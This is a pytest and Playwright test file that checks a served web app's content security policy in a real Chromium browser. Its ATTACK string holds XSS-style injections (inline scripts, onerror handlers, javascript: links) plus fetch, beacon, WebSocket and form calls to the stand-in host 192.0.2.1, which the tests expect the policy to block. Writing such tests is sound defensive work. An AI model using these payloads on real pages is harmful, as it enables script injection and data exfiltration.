"""What a real browser makes of the served app: an honest page works whole, an attack on it comes to nothing."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

import pytest
from playwright.sync_api import Page, expect, sync_playwright
from serving import HONEST, served

CHROMIUM = Path("/usr/bin/chromium")
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WATCHING = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(event.effectiveDirective));
"""
# Markup and calls as a name that escaped its escaping would have them; 192.0.2.1 is nobody's address.
ATTACK = """async () => {
  window.ran = [];
  const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
  add("script", { textContent: "ran.push('inline script')" });
  add("script", { src: "http://192.0.2.1/x.js" });
  add("script", { src: "data:text/javascript,ran.push('data script')" });
  add("div", { innerHTML: "<img src=x onerror=\\"ran.push('handler')\\">" });
  add("img", { src: "http://192.0.2.1/x.png" });
  add("iframe", { src: "http://192.0.2.1/" });
  add("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" });
  add("object", { data: "http://192.0.2.1/" });
  add("link", { rel: "stylesheet", href: "http://192.0.2.1/x.css" });
  add("base", { href: "http://192.0.2.1/" });
  add("a", { href: "javascript:ran.push('link')", id: "link" });
  document.querySelector("#link").click();
  add("form", { action: "http://192.0.2.1/", id: "form" });
  document.querySelector("#form").submit();
  await fetch("http://192.0.2.1/").then(() => ran.push("fetch"), () => null);
  navigator.sendBeacon("http://192.0.2.1/");
  try { new WebSocket("ws://192.0.2.1/").onopen = () => ran.push("socket"); } catch (error) {}
  try { new EventSource("http://192.0.2.1/"); } catch (error) {}
  await new Promise((done) => setTimeout(done, 500));
  return ran;
}"""
REFUSED = {
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
}
T = TypeVar("T")


@dataclass(slots=True)
class Visit:
    """A page in a browser, with what it complained of and whom it asked."""

    page: Page
    url: str
    complaints: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def watch(self) -> None:
        """Note errors of the console and of scripts, and every request to another server."""
        self.page.add_init_script(WATCHING)
        self.page.on(
            "console",
            lambda told: self.complaints.append(told.text) if told.type == "error" else None,
        )
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        ours = (self.url, self.url.replace("http", "ws"), "data:", "blob:")
        self.page.on(
            "request",
            lambda asked: None if asked.url.startswith(ours) else self.foreign.append(asked.url),
        )

    def open(self) -> None:
        """Open the page, and wait until all of it is there."""
        self.page.goto(self.url)
        expect(self.page.get_by_text("done")).to_be_visible(timeout=60_000)

    @property
    def violations(self) -> list[str]:
        """What the policy refused so far, by directive."""
        found: list[str] = self.page.evaluate("window.violations")
        return found


@pytest.fixture(scope="module")
def app_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the honest page."""
    if not CHROMIUM.exists():
        reason = f"no browser at {CHROMIUM} (Debian: apt-get install chromium)"
        (pytest.fail if os.environ.get("CI") else pytest.skip)(reason)
    with served(HONEST, tmp_path_factory.mktemp("served")) as started:
        yield started.url


def visited(url: str, visit: Callable[[Visit], T], *, scheme: str = "light") -> T:
    """What the visit returns; in a thread of its own, where no other loop runs."""

    def run() -> T:
        with sync_playwright() as play:
            browser = play.chromium.launch(executable_path=str(CHROMIUM), args=ARGUMENTS)
            options: Any = {"color_scheme": scheme, "viewport": {"width": 1280, "height": 1800}}
            made = Visit(browser.new_context(**options).new_page(), url)
            made.watch()
            return visit(made)

    with ThreadPoolExecutor(1) as threads:
        return threads.submit(run).result()


def _use_everything(visit: Visit) -> None:
    page = visit.page
    visit.open()
    page.get_by_role("button", name="Popover").click()
    expect(page.get_by_text("in the popover")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Open dialog").click()
    expect(page.get_by_role("textbox", name="In the dialog")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("combobox", name="Select").click()
    page.get_by_role("option", name="two").click()
    with page.expect_download() as saved:
        page.get_by_role("button", name="Download", exact=True).click()
    assert (saved.value.suggested_filename, saved.value.failure()) == ("rows.csv", None)
    expect(page.get_by_role("button", name="from the component")).to_be_visible()
    expect(page.locator("canvas").first).to_be_visible()
    page.get_by_role("link", name="Other").click()
    expect(page.get_by_role("heading", name="Other")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_an_honest_page_works_whole_and_asks_nobody_else(app_url: str, scheme: str) -> None:
    def visit(made: Visit) -> tuple[list[str], list[str], list[str], str]:
        _use_everything(made)
        ground: str = made.page.evaluate(
            "getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor"
        )
        return made.violations, made.complaints, made.foreign, ground

    grounds = {"light": "rgb(255, 255, 255)", "dark": "rgb(15, 22, 32)"}
    assert visited(app_url, visit, scheme=scheme) == ([], [], [], grounds[scheme])


def test_an_attack_from_inside_the_page_runs_nothing_and_reaches_nobody(app_url: str) -> None:
    def visit(made: Visit) -> tuple[list[str], set[str], set[str]]:
        made.open()
        failures: list[str] = []
        answered: list[str] = []
        made.page.on("requestfailed", lambda asked: failures.append(asked.url))
        made.page.on("response", lambda told: answered.append(told.url))
        ran: list[str] = made.page.evaluate(ATTACK)
        reached = {url for url in answered if "192.0.2.1" in url}
        assert set(made.foreign) <= set(failures)
        return ran, set(made.violations), reached

    assert visited(app_url, visit) == ([], REFUSED, set())


def test_a_component_makes_no_script_of_a_string(app_url: str) -> None:
    def visit(made: Visit) -> dict[str, str]:
        made.open()
        made.page.get_by_role("button", name="from the component").click()
        tried: dict[str, str] = made.page.evaluate("window.tried")
        return tried

    assert visited(app_url, visit) == {"eval": "EvalError", "function": "EvalError"}


def test_no_other_page_frames_the_app_or_opens_its_web_socket(app_url: str) -> None:
    def visit(made: Visit) -> tuple[str, str]:
        made.page.goto("about:blank")
        made.page.set_content(f'<iframe src="{made.url}"></iframe>')
        made.page.wait_for_timeout(500)
        framed = made.page.frames[1].url
        socket = made.page.evaluate(
            """(url) => new Promise((told) => {
                const socket = new WebSocket(url);
                socket.onopen = () => told("opened");
                socket.onerror = () => told("refused");
            })""",
            f"{made.url.replace('http', 'ws')}/_stcore/stream",
        )
        return framed, socket

    assert visited(app_url, visit) == ("chrome-error://chromewebdata/", "refused")
